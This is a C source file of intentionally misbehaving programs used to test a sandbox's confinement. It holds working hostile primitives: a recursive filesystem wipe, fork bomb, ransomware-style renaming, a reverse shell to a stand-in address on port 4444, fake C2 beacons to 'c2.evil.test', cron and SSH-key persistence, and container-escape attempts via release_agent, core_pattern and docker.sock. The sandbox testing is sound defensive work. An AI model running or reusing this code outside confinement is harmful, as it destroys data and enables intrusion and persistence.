// SPDX-License-Identifier: Apache-2.0
// Programs that behave badly in a small way, by name, for the tests of the sandbox. Each is harmless to a
// host only because it is confined: never run them elsewhere.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static void say(const char *what, long result)
{
    printf("%s: %s\n", what, result < 0 ? strerror(errno) : "done");
    fflush(stdout);
}

static void writes(const char *path, const char *text)
{
    int fd = open(path, O_WRONLY | O_CREAT | O_APPEND, 0644);
    say(path, fd < 0 ? -1 : write(fd, text, strlen(text)));
    if (fd >= 0)
        close(fd);
}

static int removes(const char *path, const struct stat *st, int kind, struct FTW *ftw)
{
    (void)st, (void)kind, (void)ftw;
    remove(path);
    return 0;
}

static void wipe(const char *where)
{
    nftw(where, removes, 64, FTW_DEPTH | FTW_PHYS);
}

// Files that nobody can name, and names that are something else to whoever shows them.
static void hides(void)
{
    static char name[201];
    writes("/tmp/<script>alert(1)<\\script>&\"'", "x\n");
    writes("/tmp/\033[2J\033]0;owned\007\xe2\x80\xae", "x\n");
    writes("/tmp/\xff\xfe\n", "x\n");
    mkfifo("/tmp/pipe", 0600);
    symlink("/etc/shadow", "/tmp/link");
    memset(name, 'd', 200);
    chdir("/tmp");
    for (int i = 0; i < 40; i++) {
        mkdir(name, 0700);
        if (chdir(name))
            return;
    }
    writes("deep", "x\n");
}

static void bomb(void)
{
    // Ends by itself where nothing stops it.
    for (int i = 0; i < 2000; i++)
        if (fork() == 0) {
            sleep(3);
            _exit(0);
        }
}

static void hog(void)
{
    for (size_t i = 0; i < 4096; i++) {
        char *p = mmap(0, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (p == MAP_FAILED)
            return;
        memset(p, 1, 1 << 20);
    }
}

static void renames(void)
{
    char from[64], to[64];
    for (int i = 0; i < 200; i++) {
        snprintf(from, sizeof from, "/tmp/document%d", i);
        snprintf(to, sizeof to, "/tmp/document%d.locked", i);
        close(open(from, O_CREAT | O_WRONLY, 0600));
        renameat(AT_FDCWD, from, AT_FDCWD, to);
    }
}

static void storm(void)
{
    static char block[1 << 20];
    int fd = open("/tmp/storm", O_CREAT | O_WRONLY, 0600), failed = 0;
    for (int i = 0; i < 4096 && failed < 10; i++)
        failed += write(fd, block, sizeof block) < 0;
}

static void clocks(void)
{
    struct timespec when = {1000000000, 0};
    struct timeval tv = {1000000000, 0};
    say("clock_settime", clock_settime(CLOCK_REALTIME, &when));
    say("settimeofday", settimeofday(&tv, 0));
}

static void memory(const char *self)
{
    char path[64];
    (void)self;
    int from = open("/bin/sleep", O_RDONLY), to = memfd_create("hidden", 0);
    static char block[1 << 16];
    for (ssize_t n; (n = read(from, block, sizeof block)) > 0;)
        if (write(to, block, n) != n)
            return;
    snprintf(path, sizeof path, "/proc/self/fd/%d", to);
    char *args[] = {"sleep", "1", 0}, *env[] = {0};
    if (fork() == 0) {
        execve(path, args, env);
        _exit(1);
    }
    wait(0);
}

static void traces(void)
{
    say("ptrace", ptrace(PTRACE_TRACEME, 0, 0, 0));
    pid_t child = fork();
    if (child == 0) {
        pause();
        _exit(0);
    }
    say("attach", ptrace(PTRACE_ATTACH, child, 0, 0));
    waitpid(child, 0, 0);
    kill(child, 9);
}

static void reverse(void)
{
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(4444)};
    inet_pton(AF_INET, "198.51.100.23", &to.sin_addr);
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    say("connect", connect(fd, (struct sockaddr *)&to, sizeof to));
    dup2(fd, 0);
    dup2(fd, 1);
    dup2(fd, 2);
    execl("/bin/sh", "sh", "-c", "exit 0", (char *)0);
}

// Gives whoever connects a shell: itself, here.
static void listens(void)
{
    struct sockaddr_in at = {.sin_family = AF_INET, .sin_port = htons(31337)};
    at.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    int door = socket(AF_INET, SOCK_STREAM, 0);
    if (bind(door, (struct sockaddr *)&at, sizeof at) || listen(door, 1))
        return;
    if (fork() == 0) {
        int fd = socket(AF_INET, SOCK_STREAM, 0);
        _exit(connect(fd, (struct sockaddr *)&at, sizeof at) < 0);
    }
    int fd = accept(door, 0, 0);
    for (int i = 0; i < 3; i++)
        dup2(fd, i);
    execl("/bin/sh", "sh", "-c", "exit 0", (char *)0);
}

static int reaches(int kind, const char *address, int port)
{
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port)};
    inet_pton(AF_INET, address, &to.sin_addr);
    int fd = socket(AF_INET, kind, 0);
    say("connect", connect(fd, (struct sockaddr *)&to, sizeof to));
    return fd;
}

static void sends(int fd, const void *bytes, size_t size)
{
    say("send", send(fd, bytes, size, MSG_NOSIGNAL));
}

// Asks for a name, greets as TLS and as HTTP do, and knocks where nobody is.
static void asks(void)
{
    static const char question[] = "\7\7\1\0\0\1\0\0\0\0\0\0\2c2\4evil\4test\0\0\1\0\1";
    static const char hello[] = "\x16\3\1\0\x47\1\0\0\x43\3\3"
                                "0123456789abcdef0123456789abcdef"
                                "\0\0\2\0\x2f\1\0\0\x15\0\0\0\x11\0\x0f\0\0\x0c"
                                "c2.evil.test";
    char text[64];
    int fd = reaches(SOCK_DGRAM, "127.0.0.1", 53);
    sends(fd, question, sizeof question - 1);
    fd = reaches(SOCK_STREAM, "198.51.100.23", 443);
    sends(fd, hello, sizeof hello - 1);
    say("read", read(fd, text, sizeof text));
    fd = reaches(SOCK_STREAM, "198.51.100.23", 80);
    sends(fd, "GET /gate.php HTTP/1.1\r\nHost: c2.evil.test\r\n\r\n", 47);
    say("read", read(fd, text, sizeof text));
    reaches(SOCK_STREAM, "198.51.100.23", 7);
}

static void persists(void)
{
    writes("/etc/crontab", "* * * * * root /tmp/x\n");
    writes("/etc/cron.d/x", "* * * * * root /tmp/x\n");
    mkdir("/root/.ssh", 0700);
    writes("/root/.ssh/authorized_keys", "ssh-ed25519 AAAA evil\n");
}

static void escapes(const char *which)
{
    if (!strcmp(which, "release_agent")) {
        mkdir("/tmp/cg", 0755);
        say("mount", mount("cgroup", "/tmp/cg", "cgroup", 0, "memory"));
        writes("/tmp/cg/release_agent", "/tmp/x\n");
        writes("/sys/fs/cgroup/memory/release_agent", "/tmp/x\n");
    } else if (!strcmp(which, "proc_sys")) {
        writes("/proc/sys/kernel/hostname", "owned\n");
        writes("/proc/sys/kernel/randomize_va_space", "0\n");
    } else if (!strcmp(which, "core_pattern"))
        writes("/proc/sys/kernel/core_pattern", "|/tmp/x\n");
    else if (!strcmp(which, "mknod")) {
        say("mknod", mknod("/tmp/disk", S_IFBLK | 0600, makedev(254, 0)));
        say("open", open("/tmp/disk", O_RDWR));
    } else if (!strcmp(which, "mount"))
        say("mount", mount("proc", "/mnt", "proc", 0, 0));
    else if (!strcmp(which, "setns")) {
        int fd = open("/proc/1/ns/mnt", O_RDONLY);
        say("setns", setns(fd, 0));
    } else if (!strcmp(which, "namespaces")) {
        say("unshare", unshare(CLONE_NEWUSER));
        say("clone", syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0));
    } else if (!strcmp(which, "modules")) {
        say("init_module", syscall(SYS_init_module, "x", 1, ""));
        say("bpf", syscall(SYS_bpf, 5, "x", 1));
    } else if (!strcmp(which, "sockets")) {
        struct sockaddr_un to = {.sun_family = AF_UNIX, .sun_path = "/var/run/docker.sock"};
        say("connect", connect(socket(AF_UNIX, SOCK_STREAM, 0), (struct sockaddr *)&to, sizeof to));
    } else if (!strcmp(which, "exe")) {
        int fd = open("/proc/1/exe", O_RDWR);
        say("exe", fd < 0 ? -1 : write(fd, "x", 1));
        fd = open("/proc/self/exe", O_RDWR);
        say("self", fd);
    }
}

static void serve(void)
{
    struct sockaddr_in at = {.sin_family = AF_INET, .sin_port = htons(8080)};
    at.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    int door = socket(AF_INET, SOCK_STREAM, 0), one = 1;
    setsockopt(door, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (bind(door, (struct sockaddr *)&at, sizeof at) || listen(door, 8))
        exit(1);
    for (int i = 0; i < 20; i++) {
        if (fork() == 0) {
            char text[256];
            int fd = socket(AF_INET, SOCK_STREAM, 0);
            if (connect(fd, (struct sockaddr *)&at, sizeof at))
                _exit(1);
            dprintf(fd, "GET / HTTP/1.0\r\n\r\n");
            while (read(fd, text, sizeof text) > 0)
                ;
            _exit(0);
        }
        char text[256];
        int fd = accept(door, 0, 0), page = open("/etc/hosts", O_RDONLY);
        if (read(fd, text, sizeof text) > 0)
            dprintf(fd, "HTTP/1.0 200 OK\r\n\r\n");
        ssize_t n = read(page, text, sizeof text);
        if (n > 0 && write(fd, text, n) < 0)
            exit(1);
        close(page);
        close(fd);
        wait(0);
    }
}

// A third of a second of a processor.
static void spins(void)
{
    while (clock() < CLOCKS_PER_SEC / 3)
        ;
}

// Never ends: a loud neighbour.
static void noise(void)
{
    for (;;) {
        close(open("/etc/passwd", O_RDONLY));
        usleep(100);
    }
}

static void daemonises(void)
{
    if (fork())
        return;
    setsid();
    if (fork())
        _exit(0);
    usleep(300000);
    writes("/tmp/late", "still here\n");
    _exit(0);
}

int main(int argc, char **argv)
{
    const char *what = argc > 1 ? argv[1] : "";
    if (!strcmp(what, "wipe"))
        wipe(argc > 2 ? argv[2] : "/");
    else if (!strcmp(what, "hides"))
        hides();
    else if (!strcmp(what, "bomb"))
        bomb();
    else if (!strcmp(what, "hog"))
        hog();
    else if (!strcmp(what, "renames"))
        renames();
    else if (!strcmp(what, "storm"))
        storm();
    else if (!strcmp(what, "clocks"))
        clocks();
    else if (!strcmp(what, "self"))
        say("unlink", unlink(argv[0]));
    else if (!strcmp(what, "memory"))
        memory(argv[0]);
    else if (!strcmp(what, "traces"))
        traces();
    else if (!strcmp(what, "reverse"))
        reverse();
    else if (!strcmp(what, "listens"))
        listens();
    else if (!strcmp(what, "asks"))
        asks();
    else if (!strcmp(what, "reaches") && argc > 3)
        sends(reaches(SOCK_STREAM, argv[2], atoi(argv[3])), "hello\n", 6);
    else if (!strcmp(what, "persists"))
        persists();
    else if (!strcmp(what, "escapes") && argc > 2)
        escapes(argv[2]);
    else if (!strcmp(what, "serve"))
        serve();
    else if (!strcmp(what, "daemonises"))
        daemonises();
    else if (!strcmp(what, "spins"))
        spins();
    else if (!strcmp(what, "noise"))
        noise();
    else if (!strcmp(what, "sleeps"))
        pause();
    return 0;
}
